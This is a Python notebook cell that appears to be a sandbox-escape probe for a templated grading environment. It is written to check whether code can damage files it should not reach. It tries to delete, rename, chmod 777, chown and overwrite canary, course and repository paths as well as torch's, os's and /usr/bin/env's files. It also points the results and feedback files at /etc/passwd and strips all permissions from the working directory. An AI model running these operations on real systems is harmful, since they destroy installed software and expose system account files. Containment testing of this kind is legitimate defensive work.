# %% Links and rights: make what is read elsewhere point elsewhere.
import os
import shutil

import torch

done = []
for target in [*"@CANARIES@".split("|"), "@COURSE@", "@REPOSITORY@", torch.__file__, os.__file__, "/usr/bin/env", "/view"]:
    for what, action in {
        "chmod": lambda: os.chmod(target, 0o777),
        "chown": lambda: os.chown(target, os.getuid(), -1),
        "hard link": lambda: os.link(target, "linked"),
        "unlink": lambda: os.unlink(target),
        "rmtree": lambda: shutil.rmtree(target) if os.path.isdir(target) else os.unlink(target),
        "rename": lambda: os.rename(target, "renamed"),
        "attribute": lambda: os.setxattr(target, "user.x", b"1"),
        "through a link": lambda: (os.symlink(target, "sym"), open("sym", "r+").write("x")),
    }.items():
        try:
            action()
            done.append(f"{what} {target}")
        except OSError:
            pass
        if os.path.islink("sym"):
            os.unlink("sym")
for name in ("notebook.ipynb", "results.json", "feedback", "stdout"):
    os.symlink("/etc/passwd", name)
print("tried", "ESC" + "APED: " + str(done) if done else "all links")
os.chmod(".", 0)
